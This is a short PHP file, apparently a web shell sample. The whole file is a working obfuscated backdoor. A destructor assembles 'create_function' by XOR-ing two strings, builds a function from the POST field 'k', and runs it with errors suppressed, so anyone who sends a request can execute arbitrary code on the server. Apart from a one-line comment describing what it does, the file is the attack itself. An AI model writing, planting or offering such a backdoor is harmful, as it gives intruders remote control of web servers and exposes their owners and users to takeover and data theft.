<?php
// a class whose destructor builds create_function by XOR of two strings and runs the
// property that a request filled in
class Kx {
    function __destruct() {
        $n = 'qWeRtYuIoPaSdFg' ^ "\x12\x25\x00\x33\x00\x3c\x2a\x2f\x1a\x3e\x02\x27\x0d\x29\x09";
        @$n = $n('', $this->p);
        return @$n();
    }
}
$k = new Kx();
@$k->p = &$_POST['k'];
